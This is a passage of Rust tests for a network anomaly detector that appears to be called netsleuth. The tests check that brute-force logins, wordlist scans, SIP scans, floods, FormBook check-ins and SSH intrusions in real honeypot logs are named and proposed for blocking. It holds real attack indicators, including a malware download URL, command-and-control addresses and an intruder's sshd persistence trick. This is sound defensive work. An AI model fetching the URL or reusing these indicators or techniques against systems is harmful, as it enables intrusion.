    let order = ranked(&d);
    for s in &order[..5] {
        assert!(
            !s.findings.is_empty() && !s.reasons[0].starts_with("unusual for this file"),
            "{}: {:?}",
            s.stats.ip,
            s.reasons
        );
    }
    let top = order[0];
    assert_eq!(top.stats.ip.to_string(), "216.244.81.34");
    let guessing = finding(top, FindingKind::BruteForce).unwrap();
    assert!(
        guessing.summary.starts_with(
            "posted the login form `POST /login_form` 21 times under 2 user agents, each \
             within 2 s of loading it"
        ),
        "{}",
        guessing.summary
    );
    assert!(guessing
        .summary
        .ends_with("answered 200 ×21, the form again: no login succeeded"));
    let signup = finding(top, FindingKind::ScriptedSignup).unwrap();
    assert!(
        signup.summary.contains("`POST /join_form` 21 times"),
        "{}",
        signup.summary
    );
    assert!(
        signup.summary.contains("answered 302 ×21"),
        "{}",
        signup.summary
    );
    // A browser user agent per request, five of them, from an address that only reads.
    let reader = source(&d, "148.251.65.34");
    let rotation = finding(reader, FindingKind::AgentRotation).unwrap();
    assert!(
        rotation
            .summary
            .starts_with("13 requests under 5 different browser user agents"),
        "{}",
        rotation.summary
    );
    assert_eq!(rotation.evidence.len(), 5);
    // One sign-up and its login a second later are one campaign, not hundreds of lines.
    let biggest = &d.campaigns[0];
    assert_eq!(biggest.kind, FindingKind::ScriptedSignup);
    assert!(biggest.members.len() >= 300, "{}", biggest.members.len());
    // Lines 2775-2779: sign-up posted 1 s after loading, then its login: one story, no
    // password guessing.
    let one_cycle = source(&d, "104.168.75.182");
    assert!(
        one_cycle.reasons[0].ends_with("; then posted the login form once"),
        "{:?}",
        one_cycle.reasons
    );
    assert!(finding(one_cycle, FindingKind::BruteForce).is_none());
    assert!(!one_cycle.proposed_block, "{}", one_cycle.confidence);
}

#[test]
fn a_php_wordlist_is_named_with_its_missing_pages() {
    // honeynet-redhat71_access_log.1: 211.75.221.105 asked 21 times for each of 28 PHP
    // pages the site lacks (588 answered 404 of its 609 requests).
    let (_, d) = run("web-access-logs/honeynet-redhat71_access_log.1");
    let s = source(&d, "211.75.221.105");
    let f = finding(s, FindingKind::WordlistScan).unwrap();
    assert_eq!(f.rows.len(), 588);
    assert_eq!(
        f.evidence.len(),
        20,
        "evidence keeps the first 20 of 28 pages"
    );
    assert!(f
        .summary
        .starts_with("588 requests for 28 pages that do not exist"));
    assert!(f
        .summary
        .contains("(97% of its requests answered not found)"));
    assert!(f
        .summary
        .ends_with("every page asked for at least 21 times"));
    // Worm and proxy sources ask for few missing pages: no wordlist.
    assert!(finding(source(&d, "24.215.76.171"), FindingKind::WordlistScan).is_none());
}

#[test]
fn sip_scanners_and_their_calls_are_named_on_dionaea() {
    // dionaea_mhn_export.json: 107.155.185.36 had 72 SipSession and 21 SipCall events.
    let (_, d) = run("honeypot/dionaea/dionaea_mhn_export.json");
    let s = source(&d, "107.155.185.36");
    let f = finding(s, FindingKind::SipScan).unwrap();
    assert_eq!(f.rows.len(), 93);
    assert_eq!(f.severity, Severity::Medium, "calls raise it");
    assert!(f.summary.contains("21 calls among them"), "{}", f.summary);
    assert_eq!(s.reasons[0].split(':').next(), Some("SIP scanning (VoIP)"));
}

#[test]
fn a_campaign_is_led_by_the_member_with_most_evidence() {
    for rel in [
        "web-access-logs/hackers-access.log",
        "web-access-logs/honeynet-redhat71_access_log.13",
        "honeypot/dionaea/dionaea_mhn_export.json",
    ] {
        let (_, d) = run(rel);
        for c in &d.campaigns {
            let behind = |i: usize| d.sources[i].findings[0].rows.len();
            let most = c.members.iter().map(|&i| behind(i)).max().unwrap();
            assert_eq!(behind(c.members[0]), most, "{rel}: {}", c.summary);
            assert_eq!(c.addresses[0], d.sources[c.members[0]].stats.ip);
        }
    }
}

#[test]
fn every_ssh_behaviour_is_found_on_the_real_cowrie_logs() {
    // Counted from the raw files with Python's json module: events per source by eventid.
    let (_, d19) = run("honeypot/cowrie/cowrie.json.2018-05-19");
    let (_, d07) = run("honeypot/cowrie/cowrie.json.2018-05-07");
    let events = |d: &Detection, ip: &str, k: FindingKind| {
        finding(source(d, ip), k).map(|f| (f.rows.len(), f.technique))
    };
    let intruder = "111.73.46.18";
    assert_eq!(
        events(&d19, intruder, FindingKind::ShellCommands),
        Some((15, "T1059.004"))
    );
    assert_eq!(
        events(&d19, intruder, FindingKind::ValidLogin),
        Some((1, "T1078"))
    );
    assert_eq!(
        events(&d19, intruder, FindingKind::ImpairDefences),
        Some((1, "T1562.004"))
    );
    assert_eq!(
        events(&d19, intruder, FindingKind::IndicatorRemoval),
        Some((1, "T1070"))
    );
    // Its first command links sshd as `su` and starts it on port 1987.
    assert_eq!(
        events(&d19, intruder, FindingKind::Persistence),
        Some((1, "T1556.003"))
    );
    let download = finding(source(&d19, intruder), FindingKind::MalwareDownload).unwrap();
    assert_eq!(download.technique, "T1105");
    assert!(download
        .evidence
        .iter()
        .any(|e| e.contains("http://mdb7.cn:8081/exp")));
    assert_eq!(
        events(&d19, "195.3.147.49", FindingKind::ProxyUse),
        Some((48, "T1090"))
    );
    assert_eq!(
        events(&d07, "59.63.43.173", FindingKind::BruteForce),
        Some((21, "T1110.001"))
    );
}

#[test]
fn a_sunday_is_no_stranger_than_a_monday_on_a_public_web_server() {
    // hackers-access.log runs from Sunday 2015-10-25 to Friday 2015-10-30. Each day's share
    // of anomalous events stays within twice any other day's (the log's one Sunday was
    // flagged whole, 479 of 479, while a weekend feature applied to a public server).
    let (t, d) = run("web-access-logs/hackers-access.log");
    let mut days: std::collections::BTreeMap<i64, (usize, usize)> = Default::default();
    for r in 0..t.len() {
        let day = t.time_us(r).unwrap().div_euclid(86_400_000_000);
        let e = days.entry(day).or_default();
        e.0 += 1;
        e.1 += usize::from(d.event_flagged[r]);
    }
    let shares: Vec<f64> = days.values().map(|(n, f)| *f as f64 / *n as f64).collect();
    assert_eq!(shares.len(), 6);
    let (lo, hi) = shares
        .iter()
        .fold((f64::MAX, 0.0f64), |(l, h), &s| (l.min(s), h.max(s)));
    assert!(lo > 0.0 && hi <= 2.0 * lo, "{shares:?}");
}

#[test]
fn floods_are_named_and_the_model_caveat_is_said() {
    // KDD Cup 10%, counted with awk: 281,400 of 494,021 rows are ICMP ecr_i (smurf), and
    // 101,789 are TCP connections to service 'private' with no bytes from the source and a
    // flag of a connection never answered or refused (S0, REJ, SH... : neptune).
    let (_, d) = run("kddcup99/kddcup.data_10_percent.gz");
    let floods: Vec<(FloodKind, usize)> = d.volume.iter().map(|v| (v.kind, v.events)).collect();
    assert_eq!(
        floods,
        [(FloodKind::Icmp, 281_400), (FloodKind::HalfOpen, 101_789)]
    );
    assert!(d.volume[0]
        .summary
        .starts_with("ICMP flood: 281,400 events (57% of the file) are ICMP messages (ecr_i)"));
    let caveat = d
        .caveat
        .as_deref()
        .expect("the floods are most of the file");
    assert!(
        caveat.starts_with("Floods are 78% of the events"),
        "{caveat}"
    );
    assert!(d
        .volume
        .iter()
        .flat_map(|v| &v.rows)
        .all(|&r| d.event_flagged[r as usize]));
    // Flows of an ordinary network and a web log hold no flood, nor does a bot retrying
    // its unreachable server every 20 s for a day (IoT-23 8-1: 4,112 S0 connections from
    // 192.168.100.113 to 178.128.185.250:50 over 82,253 s).
    for file in [
        "iot-23/CTU-Malware-Capture-8-1-labeled.csv",
        "zeek/trickbot_conn.log",
        "web-access-logs/hackers-access.log",
        "cic-ids2017/cicids2017_improved_sample_mixed.csv",
    ] {
        let (_, d) = run(file);
        assert!(d.volume.is_empty(), "{file}: {:?}", d.volume);
        assert!(d.caveat.is_none(), "{file}");
    }
}

#[test]
fn every_anomalous_event_says_why() {
    let (t, d) = run("honeypot/suricata/eve.json");
    let dc: std::net::IpAddr = "172.16.0.52".parse().unwrap();
    for r in 0..t.len() {
        let why = d.event_reason(&t, r);
        assert_eq!(why.is_some(), d.event_flagged[r], "row {r}");
        // Routine traffic with the domain controller is its job, not an anomaly.
        if t.destination_ip(r) == Some(dc) {
            assert!(!d.event_flagged[r], "row {r}: {why:?}");
        }
    }
    let step = (0..t.len())
        .find(|&r| t.detail_value(r, "signature") == Some("ET MALWARE FormBook CnC Checkin (GET)"))
        .unwrap();
    assert_eq!(
        d.event_reason(&t, step).as_deref(),
        Some("Malware traffic (172.16.0.131)")
    );
    // On a web log the statistics speak, with the event's own values against the file's.
    let (t, d) = run("web-access-logs/hackers-access.log");
    let reasons: Vec<String> = (0..t.len()).filter_map(|r| d.event_reason(&t, r)).collect();
    assert!(!reasons.is_empty());
    assert!(
        reasons
            .iter()
            .any(|r| r.starts_with("unusual for this file: received ") && r.contains("(typical ")),
        "{reasons:?}"
    );
}

#[test]
fn on_a_honeypot_intrusion_outranks_attempts_and_timing_never_headlines() {
    // cowrie.json.2018-05-07: 14.47.125.208 logged in as root with an empty password on its
    // first attempt; 59.63.43.173 failed 21 logins as ubnt and never got in (grep and
    // Python's json module over the file).
    let (_, d) = run("honeypot/cowrie/cowrie.json.2018-05-07");
    let order: Vec<String> = ranked(&d).iter().map(|s| s.stats.ip.to_string()).collect();
    let at = |ip: &str| order.iter().position(|o| o == ip).unwrap();
    assert!(at("14.47.125.208") < at("59.63.43.173"), "{order:?}");
    assert!(source(&d, "14.47.125.208").proposed_block);
    let first_guesser = ranked(&d)
        .iter()
        .position(|s| s.findings.iter().any(|f| f.kind == FindingKind::BruteForce) && !s.intruded())
        .unwrap();
    assert!(ranked(&d)[..first_guesser].iter().all(|s| s.intruded()));
    for file in [
        "honeypot/cowrie/cowrie.json.2018-05-06",
        "honeypot/cowrie/cowrie.json.2018-05-19",
        "honeypot/dionaea/dionaea_mhn_export.json",
    ] {
        let (_, d) = run(file);
        for s in &d.sources {
            let first = s.reasons.first().map(String::as_str).unwrap_or("");
            for timing in [
                "burst of activity",
                "gap variation",
                "in one minute",
                "beacon",
            ] {
                assert!(
                    !first.starts_with("unusual for this file") || !first.contains(timing),
                    "{file} {}: {first}",
                    s.stats.ip
                );
            }
        }
    }
}

#[test]
fn shared_infrastructure_is_never_proposed_by_address_and_its_names_are() {
    // With the bundled databases, as `detect` runs: who owns each address decides.
    let (t, report) = real_data::read("honeypot/suricata/eve.json");
    let mut settings = DetectionSettings {
        cache_dir: None,
        geo: Some(std::sync::Arc::new(netsleuth::geo::Locator::with_paths(
            &[],
            true,
        ))),
        ..DetectionSettings::default()
    };
    settings.features = settings.features.resolve(&[report.format]);
    let d = detect(&t, &settings, &AtomicBool::new(false)).unwrap();
    let proposed = netsleuth::blocklist::proposals(&d, &netsleuth::blocklist::Blocklist::default());
    let ips: BTreeSet<String> = proposed.iter().map(|p| p.ip.to_string()).collect();
    for dridex in ["135.148.121.246", "144.217.88.125"] {
        let p = proposed
            .iter()
            .find(|p| p.ip.to_string() == dridex)
            .expect(dridex);
        assert_eq!(p.direction, Direction::Outbound);
    }
    // No platform's address at all, and a hosting provider's only when reached by bare
    // address (the Dridex servers rent OVH machines and no name was asked for).
    for p in &proposed {
        if let Some((_, owner)) = netsleuth::geo::shared_owner_of(p.ip) {
            assert_eq!(owner.kind, netsleuth::geo::SharedKind::Hosting, "{}", p.ip);
            assert!(source(&d, &p.ip.to_string()).names.is_empty(), "{}", p.ip);
        }
    }
    // Google's and Cloudflare's FormBook check-in servers (worked out with Python's json
    // module), and every other address a FormBook check-in went to by name.
    for shared in ["216.58.193.147", "104.16.12.194", "104.21.89.147"] {
        assert!(!ips.contains(shared), "{shared}");
        assert!(source(&d, shared).shared.is_some(), "{shared}");
    }
    let formbook = source(&d, "172.16.0.131").findings[0].evidence[1..].to_vec();
    assert_eq!(formbook.len(), 19);
    for server in &formbook {
        assert!(
            !ips.contains(server),
            "{server} is a FormBook check-in server"
        );
    }
    // Their names go to the domain blocklist instead: every FormBook check-in host.
    let text = std::fs::read_to_string(real_data::data("honeypot/suricata/eve.json")).unwrap();
    let hosts: BTreeSet<String> = text
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|v| v["alert"]["signature"] == "ET MALWARE FormBook CnC Checkin (GET)")
        .filter_map(|v| v["http"]["hostname"].as_str().map(str::to_string))
        .collect();
    assert_eq!(hosts.len(), 21);
    let names: BTreeSet<String> = netsleuth::domains::from_detection(&d)
        .iter()
        .map(|p| p.name.to_string())
        .collect();
    for h in &hosts {
        assert!(names.contains(h), "{h} is not proposed: {names:?}");
    }
}

#[test]
fn formbooks_decoy_lookups_are_named_and_windows_housekeeping_is_not() {
    // Suricata's dns answers (worked out with Python's json module): 172.16.0.131, the host
    // of the FormBook check-in alerts, got NXDOMAIN for eight www. names of eight domains,
    // FormBook's decoy list, besides wpad/isatap/_ldap/autodiscover lookups of its own
    // network; 172.16.0.149 for four mail. names.
    let (_, d) = run("honeypot/suricata/eve.json");
    let f = finding(source(&d, "172.16.0.131"), FindingKind::NxdomainStorm).unwrap();
    assert_eq!(
        f.summary,
        "looked up 8 names under 8 domains that do not exist (NXDOMAIN), 2 \
         machine-generated-looking, such as `www.32342240.xyz`, `www.jmtmjz.com`, \
         `www.barrcoplumbingsupply.com`"
    );
    assert_eq!(f.severity, Severity::Low);
    assert!(f
        .evidence
        .iter()
        .all(|n| n.starts_with("www.") && !n.contains("sunnystation")));
    assert!(finding(source(&d, "172.16.0.149"), FindingKind::NxdomainStorm).is_none());
}
